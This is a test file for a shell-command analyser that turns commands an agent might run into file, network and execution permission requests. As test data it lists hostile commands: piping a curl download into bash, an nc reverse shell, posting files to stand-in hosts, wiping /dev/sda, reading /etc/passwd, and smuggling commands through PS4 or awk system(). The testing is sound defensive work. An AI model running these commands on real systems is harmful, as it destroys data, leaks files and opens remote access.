import { describe, expect, test } from 'vitest';
import { shellRequests, type Item, type Request } from '../../kernel-adapters/shell/index.ts';

const principal = { type: 'Agent', id: 'tester' };

const one = ({ action, resource, context }: Request): string => {
  const http =
    action === 'http.request' ? ` ${context['method']} ${context['tls'] ? 'tls ' : ''}${context['path']}` : '';
  const dynamic = context['dynamic'] === true ? ' dynamic' : '';
  return `${action.replace('process.', '')} ${resource.type} ${resource.id}${http}${dynamic}`;
};

const line = (item: Item): string => [item].flat().map(one).join(' + ');

/** The facts of a text, one line each, a transaction's joined by ` + `. */
function facts(text: string, workingDirectory = '/w'): string[] {
  return shellRequests(text, { principal, workingDirectory, ref: 'here' }).map(line);
}

const TABLES: Record<string, [text: string, facts: string[]][]> = {
  files: [
    ['cat a.txt ../b /c', ['exec Program cat', 'file.read File /w/a.txt', 'file.read File /b', 'file.read File /c']],
    ['head -n 5 -- -a', ['exec Program head', 'file.read File /w/-a']],
    ['cat -', ['exec Program cat']],
    ['sort -o out in', ['exec Program sort', 'file.read File /w/in', 'file.write File /w/out']],
    ['tee -a log', ['exec Program tee', 'file.write File /w/log']],
    ['touch a', ['exec Program touch', 'file.create File /w/a']],
    ['install -d a', ['exec Program install', 'file.create Dir /w/a']],
    ['tar xf a --to-command=sh', ['exec Program tar dynamic', 'file.read File /w/a', 'file.create Dir /w']],
    ['tar', ['exec Program tar dynamic']],
    ['split --filter=sh f', ['exec Program split dynamic', 'file.read File /w/f', 'file.create Dir /w']],
    ['mkdir -p -m 700 a/b', ['exec Program mkdir', 'file.create Dir /w/a/b']],
    ['rm a', ['exec Program rm', 'file.delete File /w/a']],
    ['rm -rf a', ['exec Program rm', 'file.delete File /w/a', 'file.delete Dir /w/a']],
    ['rm --rec a', ['exec Program rm dynamic', 'file.delete File /w/a']],
    ['rm -r a/', ['exec Program rm', 'file.delete Dir /w/a']],
    ['rmdir a', ['exec Program rmdir', 'file.delete Dir /w/a']],
    ['chmod +x run', ['exec Program chmod', 'file.write File /w/run']],
    ['chmod -x run', ['exec Program chmod', 'file.write File /w/run']],
    ['chown -R me d', ['exec Program chown', 'file.write File /w/d', 'file.create Dir /w/d']],
    ['dd if=/dev/zero of=/dev/sda', ['exec Program dd', 'file.read File /dev/zero', 'file.write File /dev/sda']],
    ['gcc -O2 -o out a.c -lm', ['exec Program gcc', 'file.read File /w/a.c', 'file.write File /w/out']],
    ['gcc a.c', ['exec Program gcc', 'file.read File /w/a.c', 'file.create Dir /w']],
    ['gcc -oout a.c', ['exec Program gcc', 'file.read File /w/a.c', 'file.write File /w/out']],
    ['unzip a.zip -d /opt', ['exec Program unzip', 'file.read File /w/a.zip', 'file.create Dir /opt']],
    ['unzip -l a.zip', ['exec Program unzip', 'file.read File /w/a.zip']],
    ['tar xzf a.tgz -C /opt', ['exec Program tar', 'file.read File /w/a.tgz', 'file.create Dir /opt']],
    ['tar xfC a.tgz /opt', ['exec Program tar', 'file.read File /w/a.tgz', 'file.create Dir /opt']],
    [
      'tar -czf a.tgz src',
      ['exec Program tar', 'file.read File /w/src', 'file.read Dir /w/src', 'file.write File /w/a.tgz'],
    ],
  ],
  transactions: [
    ['cp -T a b', ['exec Program cp', 'file.read File /w/a + file.write File /w/b']],
    ['cp a b', ['exec Program cp', 'file.read File /w/a + file.write File /w/b + file.write File /w/b/a']],
    ['cp a b/', ['exec Program cp', 'file.read File /w/a + file.write File /w/b/a']],
    [
      'cp -t d a b',
      [
        'exec Program cp',
        'file.read File /w/a + file.write File /w/d/a',
        'file.read File /w/b + file.write File /w/d/b',
      ],
    ],
    ['cp --target-directory=d a', ['exec Program cp', 'file.read File /w/a + file.write File /w/d/a']],
    [
      'mv -T a b',
      [
        'exec Program mv',
        'file.rename File /w/a + file.rename Dir /w/a + file.rename File /w/b + file.rename Dir /w/b',
      ],
    ],
    [
      'ln -sT /etc/passwd p',
      [
        'exec Program ln',
        'file.read File /etc/passwd + file.read Dir /etc/passwd + file.create File /w/p + file.create Dir /w/p',
      ],
    ],
    ['ln -s passwd p', ['exec Program ln dynamic', 'file.create File /w/p']],
    ['cp "$A" b', ['exec Program cp dynamic', 'file.write File /w/b + file.create Dir /w/b']],
  ],
  searching: [
    ['ls', ['exec Program ls', 'file.read Dir /w']],
    ['ls -la src', ['exec Program ls', 'file.read Dir /w/src']],
    ['grep --color x f', ['exec Program grep', 'file.read File /w/f']],
    ['find . -execdir rm a \\;', ['exec Program find', 'file.read Dir /w', 'exec Program rm dynamic']],
    ['wc --files0-from=list', ['exec Program wc dynamic']],
    [
      'diff -r a /b',
      ['exec Program diff', 'file.read File /w/a', 'file.read Dir /w/a', 'file.read File /b', 'file.read Dir /b'],
    ],
    ['grep -n x f', ['exec Program grep', 'file.read File /w/f']],
    ['grep -e x -f pats f', ['exec Program grep', 'file.read File /w/pats', 'file.read File /w/f']],
    ['grep -r x', ['exec Program grep', 'file.read Dir /w']],
    ['grep -rn x src', ['exec Program grep', 'file.read File /w/src', 'file.read Dir /w/src']],
    ['find . -name "*.py"', ['exec Program find', 'file.read Dir /w']],
    [
      'find a b -delete',
      ['exec Program find', 'file.read Dir /w/a', 'file.read Dir /w/b', 'file.delete Dir /w/a', 'file.delete Dir /w/b'],
    ],
    ['find . -exec rm {} \\;', ['exec Program find', 'file.read Dir /w', 'exec Program rm dynamic']],
  ],
  filters: [
    ["sed -n '1,10p' f", ['exec Program sed', 'file.read File /w/f']],
    ["sed -i 's/a/b/g; /x/d' f", ['exec Program sed', 'file.write File /w/f']],
    ["sed --in-place=.bak -e 's|a|b|' f", ['exec Program sed', 'file.write File /w/f']],
    ["sed 's/a/b/e' f", ['exec Program sed dynamic', 'file.read File /w/f']],
    ["sed 'w out' f", ['exec Program sed dynamic', 'file.read File /w/f']],
    ["sed '1e ls' f", ['exec Program sed dynamic', 'file.read File /w/f']],
    ["awk '{print $1}' f", ['exec Program awk', 'file.read File /w/f']],
    [`awk 'BEGIN{system("id")}'`, ['exec Program awk dynamic']],
    ['awk \'{print > "out"}\' f', ['exec Program awk dynamic', 'file.read File /w/f']],
  ],
  redirections: [
    ['echo x > a 2>> b', ['exec Program echo', 'file.write File /w/a', 'file.write File /w/b']],
    ['wc < a', ['exec Program wc', 'file.read File /w/a']],
    ['ls >/dev/null 2>&1', ['exec Program ls', 'file.read Dir /w']],
    ['ls &> a', ['exec Program ls', 'file.read Dir /w', 'file.write File /w/a']],
    ['> a', ['file.write File /w/a']],
    ['> "$A"', ['exec Program bash dynamic']],
    ['{ cat a; } < b > c', ['file.read File /w/b', 'exec Program cat', 'file.read File /w/a', 'file.write File /w/c']],
    ['cat <<E > a\nx\nE', ['exec Program cat', 'file.write File /w/a']],
    ['exec 3<>/dev/tcp/10.0.0.1/80', ['exec Program exec', 'net.connect Endpoint 10.0.0.1:80']],
    [
      'diff <(ls a) b',
      ['exec Program ls', 'file.read Dir /w/a', 'exec Program diff', 'file.read File /w/b', 'file.read Dir /w/b'],
    ],
    ['echo x > >(tee a)', ['exec Program tee', 'file.write File /w/a', 'exec Program echo']],
  ],
  directories: [
    ['cd a && cat f', ['exec Program cd', 'exec Program cat', 'file.read File /w/a/f']],
    ['cd a; cat f', ['exec Program cd', 'exec Program cat', 'file.read File /w/a/f', 'file.read File /w/f']],
    ['cd a || exit 1; cat f', ['exec Program cd', 'exec Program exit', 'exec Program cat', 'file.read File /w/a/f']],
    ['(cd a); cat f', ['exec Program cd', 'exec Program cat', 'file.read File /w/f']],
    ['cd a | cat f', ['exec Program cd', 'exec Program cat', 'file.read File /w/f']],
    ['! cd a && cat f', ['exec Program cd', 'exec Program cat', 'file.read File /w/f']],
    ['cd "$A" && cat f', ['exec Program cd dynamic', 'exec Program cat dynamic']],
    ['cd && cat f', ['exec Program cd', 'exec Program cat dynamic']],
    ['cd - && cat /f', ['exec Program cd', 'exec Program cat', 'file.read File /f']],
    ['command cd a && cat f', ['exec Program command', 'exec Program cd', 'exec Program cat', 'file.read File /w/a/f']],
    [
      'if cd a; then cat f; else cat g; fi',
      ['exec Program cd', 'exec Program cat', 'file.read File /w/a/f', 'exec Program cat', 'file.read File /w/g'],
    ],
    ['while true; do cd a; done; cat f', ['exec Program true', 'exec Program cd', 'exec Program cat dynamic']],
    ['export CDPATH=/x; cd a && cat f', ['exec Program export', 'exec Program cd dynamic', 'exec Program cat dynamic']],
    ['eval "cd a" && cat f', ['exec Program eval', 'exec Program cd', 'exec Program cat', 'file.read File /w/a/f']],
  ],
  nesting: [
    [
      'bash -c "cat a | tee b"',
      ['exec Program bash', 'exec Program cat', 'file.read File /w/a', 'exec Program tee', 'file.write File /w/b'],
    ],
    ["bash -c 'cd a'; cat f", ['exec Program bash', 'exec Program cd', 'exec Program cat', 'file.read File /w/f']],
    ['bash -c "$A"', ['exec Program bash dynamic']],
    ['bash <<E\nrm a\nE', ['exec Program bash', 'exec Program rm', 'file.delete File /w/a']],
    ['bash <<E\nrm $A\nE', ['exec Program bash dynamic']],
    ['bash <<< "rm a"', ['exec Program bash', 'exec Program rm', 'file.delete File /w/a']],
    ['echo rm | bash', ['exec Program echo', 'exec Program bash dynamic']],
    [
      'bash <(curl http://x.example)',
      ['exec Program curl', 'http.request Endpoint x.example:80 GET /', 'exec Program bash dynamic'],
    ],
    ['sh run.sh', ['exec Program sh', 'file.read File /w/run.sh']],
    ['bash', ['exec Program bash dynamic']],
    ['bash --version', ['exec Program bash']],
    [
      'sudo -u me env A=1 timeout -k 1 5 rm a',
      [
        'exec Program sudo',
        'exec Program env dynamic',
        'exec Program timeout',
        'exec Program rm',
        'file.delete File /w/a',
      ],
    ],
    ['xargs rm < list', ['exec Program xargs', 'file.read File /w/list', 'exec Program rm dynamic']],
    ['xargs -I{} cp -T {} /d', ['exec Program xargs', 'exec Program cp dynamic', 'file.write File /d']],
    ['nohup rm a &', ['exec Program nohup', 'exec Program rm', 'file.delete File /w/a']],
    ['time rm a', ['exec Program rm', 'file.delete File /w/a']],
    ['command -v rm', ['exec Program command']],
    ['trap "rm a" EXIT', ['exec Program trap dynamic', 'exec Program rm dynamic']],
    ['echo "$(cat a)"', ['exec Program cat', 'file.read File /w/a', 'exec Program echo']],
    ['A=`cat a`', ['exec Program cat', 'file.read File /w/a']],
    [
      'echo $(( $(cat a) + 1 ))',
      ['exec Program bash dynamic', 'exec Program cat dynamic', 'file.read File /w/a', 'exec Program echo dynamic'],
    ],
  ],
  languages: [
    ['python a.py --x', ['exec Program python', 'file.read File /w/a.py']],
    ['python3.11 -W ignore a.py', ['exec Program python3.11', 'file.read File /w/a.py']],
    ['python -m pytest -q', ['exec Program python']],
    ['python -c "print(1)"', ['exec Program python dynamic']],
    ['python - < a.py', ['exec Program python dynamic', 'file.read File /w/a.py']],
    ['python <<E\nprint(1)\nE', ['exec Program python dynamic']],
    ['python --version', ['exec Program python']],
    ['python -m http.server 9000', ['exec Program python', 'file.read Dir /w', 'net.listen Endpoint 0.0.0.0:9000']],
    ['node -e 1', ['exec Program node dynamic']],
    ['perl -pe s/a/b/ f', ['exec Program perl dynamic']],
    ['./run.sh a', ['exec File /w/run.sh dynamic']],
    ['/usr/bin/rm a', ['exec File /usr/bin/rm', 'file.delete File /w/a']],
    ['pip install x', ['exec Program pip dynamic']],
    ['pip list', ['exec Program pip']],
    ['python -m pip install -r req.txt', ['exec Program python dynamic', 'file.read File /w/req.txt']],
    ["pip install -e '.[dev]'", ['exec Program pip dynamic', 'file.read Dir /w']],
    [
      'pip install git+https://h.example/a',
      ['exec Program pip dynamic', 'http.request Endpoint h.example:443 GET tls /a'],
    ],
    ['npm test', ['exec Program npm']],
    ['npm install x', ['exec Program npm dynamic']],
    ['apt-get install -y x', ['exec Program apt-get dynamic']],
  ],
  network: [
    [
      'curl "HTTPS://Example.COM:8443/a?b=c"',
      ['exec Program curl', 'http.request Endpoint example.com:8443 GET tls /a'],
    ],
    [
      'curl -d @a http://h.example',
      ['exec Program curl', 'file.read File /w/a', 'http.request Endpoint h.example:80 POST /'],
    ],
    [
      'curl -F "f=@a;type=x" http://h.example',
      ['exec Program curl', 'file.read File /w/a', 'http.request Endpoint h.example:80 POST /'],
    ],
    ['curl -d me@a http://h.example', ['exec Program curl', 'http.request Endpoint h.example:80 POST /']],
    [
      'curl -T a http://h.example/',
      ['exec Program curl', 'file.read File /w/a', 'http.request Endpoint h.example:80 PUT /'],
    ],
    [
      'curl -sSLo out h.example/x',
      ['exec Program curl', 'http.request Endpoint h.example:80 GET /x', 'file.write File /w/out'],
    ],
    [
      'curl -O http://h.example/a/b.tgz',
      ['exec Program curl', 'http.request Endpoint h.example:80 GET /a/b.tgz', 'file.write File /w/b.tgz'],
    ],
    ['curl "http://h.example/$A"', ['exec Program curl dynamic', 'http.request Endpoint h.example:80 GET undefined']],
    ['curl "http://h.example$A/"', ['exec Program curl dynamic']],
    ['curl "http://{a,b}.example"', ['exec Program curl dynamic']],
    ['curl -K conf http://h.example', ['exec Program curl dynamic', 'http.request Endpoint h.example:80 GET /']],
    ['curl file:///etc/passwd', ['exec Program curl', 'file.read File /etc/passwd']],
    ['curl http://0x7f.1', ['exec Program curl', 'http.request Endpoint 127.0.0.1:80 GET /']],
    ['curl "http://[::ffff:1.2.3.4]"', ['exec Program curl', 'http.request Endpoint 1.2.3.4:80 GET /']],
    ['curl "http://a.example\\\\@b.example"', ['exec Program curl dynamic']],
    [
      'wget http://h.example/a',
      ['exec Program wget', 'http.request Endpoint h.example:80 GET /a', 'file.write File /w/a'],
    ],
    ['wget -qO- http://h.example', ['exec Program wget', 'http.request Endpoint h.example:80 GET /']],
    [
      'wget --post-file a http://h.example -O b',
      ['exec Program wget', 'file.read File /w/a', 'http.request Endpoint h.example:80 POST /', 'file.write File /w/b'],
    ],
    ['wget -i list', ['exec Program wget dynamic', 'file.read File /w/list']],
    ['nc h.example 80', ['exec Program nc', 'net.connect Endpoint h.example:80']],
    ['nc -lvp 4444', ['exec Program nc', 'net.listen Endpoint 0.0.0.0:4444']],
    ['nc -e /bin/sh h.example 80', ['exec Program nc dynamic', 'net.connect Endpoint h.example:80']],
    [
      'ssh -N -p 2222 -i key me@h.example',
      ['exec Program ssh', 'file.read File /w/key', 'net.connect Endpoint h.example:2222'],
    ],
    ['ssh h.example rm a', ['exec Program ssh dynamic', 'net.connect Endpoint h.example:22']],
    ['scp a me@h.example:b', ['exec Program scp', 'file.read File /w/a', 'net.connect Endpoint h.example:22']],
    [
      'scp h.example:b a',
      ['exec Program scp', 'net.connect Endpoint h.example:22', 'file.write File /w/a', 'file.create Dir /w/a'],
    ],
    [
      'git clone https://h.example/a/b.git',
      ['exec Program git', 'http.request Endpoint h.example:443 GET tls /a/b.git', 'file.create Dir /w/b'],
    ],
    [
      'git clone git@h.example:a/b d',
      ['exec Program git', 'net.connect Endpoint h.example:22', 'file.create Dir /w/d'],
    ],
    ['git push origin main', ['exec Program git dynamic']],
    ['git push https://h.example/a', ['exec Program git', 'http.request Endpoint h.example:443 POST tls /a']],
    ['git -c core.pager=x log', ['exec Program git dynamic', 'file.read Dir /w']],
    ['git clean -fd', ['exec Program git dynamic']],
    ['git status', ['exec Program git']],
  ],
  'what cannot be told': [
    ['$A b', ['exec Program $A dynamic']],
    ['rm $A', ['exec Program rm dynamic']],
    ['rm *.py', ['exec Program rm dynamic']],
    ['rm {a,b}', ['exec Program rm dynamic']],
    ['cat ~/a', ['exec Program cat dynamic']],
    ["cat '~/a'", ['exec Program cat', 'file.read File /w/~/a']],
    ['eval "$A"', ['exec Program eval dynamic']],
    ['source env.sh; ls', ['exec Program source dynamic', 'file.read File /w/env.sh', 'exec Program ls dynamic']],
    ['PATH=/x ls', ['exec Program ls dynamic', 'file.read Dir /w']],
    ['LD_PRELOAD=x ls /', ['exec Program ls dynamic', 'file.read Dir /']],
    ['export PATH=/x; ls', ['exec Program export', 'exec Program ls dynamic', 'file.read Dir /w']],
    ['env PATH=/x ls', ['exec Program env dynamic', 'exec Program ls', 'file.read Dir /w']],
    ['alias ls=rm; ls', ['exec Program alias dynamic', 'exec Program ls dynamic', 'file.read Dir /w']],
    ['ls() { rm a; }; ls', ['exec Program rm dynamic', 'exec Program ls dynamic']],
    ['for f in a b; do rm $f; done', ['exec Program rm dynamic']],
    ['docker run x', ['exec Program docker dynamic']],
    ['foo $(', ['exec Program foo dynamic', 'exec Program bash dynamic']],
    ['foo "', ['exec Program foo dynamic', 'exec Program bash dynamic']],
    ['printf "%s" "$A"; ls /', ['exec Program printf', 'exec Program ls', 'file.read Dir /']],
    ['printf -v PATH /x; ls /', ['exec Program printf', 'exec Program ls dynamic', 'file.read Dir /']],
    ['read -r line; ls /', ['exec Program read', 'exec Program ls', 'file.read Dir /']],
    ['read PATH; ls /', ['exec Program read', 'exec Program ls dynamic', 'file.read Dir /']],
    ['export "$A"; ls /', ['exec Program export dynamic', 'exec Program ls dynamic', 'file.read Dir /']],
    ['export A=$B; ls /', ['exec Program export', 'exec Program ls dynamic', 'file.read Dir /']],
    ['declare -n A=PATH; A=/x; ls /', ['exec Program declare dynamic', 'exec Program ls dynamic', 'file.read Dir /']],
    ['for PATH in /x; do ls /; done', ['exec Program ls dynamic', 'file.read Dir /']],
    ["test -v 'a[$(rm b)]'", ['exec Program test dynamic']],
    ["PS4='$(rm b)' bash -x a", ['exec Program bash dynamic', 'file.read File /w/a']],
    ['mapfile -C "rm a" b', ['exec Program mapfile dynamic']],
    ['gdb -ex "shell rm a"', ['exec Program gdb dynamic']],
    ['ssh h.example', ['exec Program ssh dynamic', 'net.connect Endpoint h.example:22']],
    ['deno eval 1', ['exec Program deno dynamic']],
    ['echo $A', ['exec Program echo']],
    ['[ -f "$A" ]', ['exec Program [']],
    ['', ['exec Program bash']],
    ['# nothing', ['exec Program bash']],
    ['A=1', ['exec Program bash']],
    ['constructor x', ['exec Program constructor dynamic']],
  ],
};

for (const [title, table] of Object.entries(TABLES)) {
  describe(title, () => {
    test.each(table)('%s', (text, expected) => expect(facts(text)).toEqual(expected));
  });
}

describe('shellRequests()', () => {
  test('names no relative path when the working directory is not known', () => {
    expect(facts('cat a /b', '')).toEqual(['exec Program cat dynamic', 'file.read File /b']);
    expect(facts('cat a', 'relative')).toEqual(['exec Program cat dynamic']);
  });

  test('states the whole request', () => {
    expect(shellRequests('./run "a b"', { principal, workingDirectory: '/w', ref: 'step 1' })).toEqual([
      {
        principal,
        action: 'process.exec',
        resource: { type: 'File', id: '/w/run' },
        context: { resolved: false, dynamic: true, program: 'run', command: './run "a b"' },
        ref: 'step 1',
      },
    ]);
  });

  test('states the address of a host that is one', () => {
    const [, connect] = shellRequests('nc ::1 80', { principal, workingDirectory: '/', ref: '' }) as Request[];
    expect(connect!.resource.id).toBe('[::1]:80');
    expect(connect!.context).toEqual({ protocol: 'tcp', address: { __extn: { fn: 'ip', arg: '::1' } } });
  });

  test('gives up on wrapping that goes on and on', () => {
    expect(facts(`${'env '.repeat(5000)}rm a`).at(-1)).toBe('exec Program env dynamic');
  });

  test('takes the names of tools for tools', () => {
    const tools = { server: 's', programs: new Map([['rm', () => {}]]), reads: new Set<string>() };
    const items = shellRequests('rm a; sudo rm b', { principal, workingDirectory: '/w', ref: '', tools });
    expect(items.map(line)).toEqual(['tool.call Tool s/rm', 'exec Program sudo', 'tool.call Tool s/rm']);
  });
});
